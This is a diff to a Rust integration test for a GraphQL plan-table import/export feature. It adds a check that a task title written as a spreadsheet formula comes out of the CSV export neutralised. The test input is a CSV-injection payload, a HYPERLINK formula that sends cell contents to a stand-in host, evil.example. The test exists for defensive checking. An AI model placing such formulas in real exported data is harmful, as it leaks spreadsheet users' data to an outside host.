@@ -602,6 +602,26 @@ async fn the_secretariat_imports_and_exports_a_plan_table_over_graphql(t: TestSt
         "{payload}"
     );
 
+    // A title that a spreadsheet would run as a formula is exported as text.
+    let lead = api
+        .ok(
+            &secretariat,
+            "query($id: ID!) { node(id: $id) { ... on Plan { tasks { lead { id } } } } }",
+            serde_json::json!({ "id": plan_id }),
+        )
+        .await["node"]["tasks"][0]["lead"]["id"]
+        .clone();
+    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"Báo cáo")"#;
+    api.ok(
+        &secretariat,
+        r#"mutation($input: CreateTaskInput!) { createTask(input: $input) { version } }"#,
+        serde_json::json!({ "input": {
+            "planId": plan_id, "category": "INSTITUTIONAL", "title": formula, "leadId": lead,
+            "deadline": "2024-12-31", "expectedOutput": "Báo cáo"
+        }}),
+    )
+    .await;
+
     // The table comes back as a workbook and as csv, both importable unchanged.
     let query = r#"query($id: ID!, $format: TableFormat!) {
       node(id: $id) { ... on Plan { taskTable(format: $format) { fileName contentType content } } }
@@ -631,6 +651,11 @@ async fn the_secretariat_imports_and_exports_a_plan_table_over_graphql(t: TestSt
                 text.starts_with("\u{feff}Kế hoạch số 318/KH-UBND"),
                 "{text}"
             );
+            assert!(text.contains("\"'=HYPERLINK("), "neutralised: {text}");
+            assert!(
+                !text.contains(",\"=HYPERLINK("),
+                "never a live formula: {text}"
+            );
         }
         let again = api
             .ok(
@@ -645,7 +670,7 @@ async fn the_secretariat_imports_and_exports_a_plan_table_over_graphql(t: TestSt
         let report = &again["importPlanTable"]["report"];
         assert_eq!(
             (report["unchanged"].as_u64(), report["written"].as_bool()),
-            (Some(37), Some(false)),
+            (Some(38), Some(false)),
             "{report}"
         );
     }
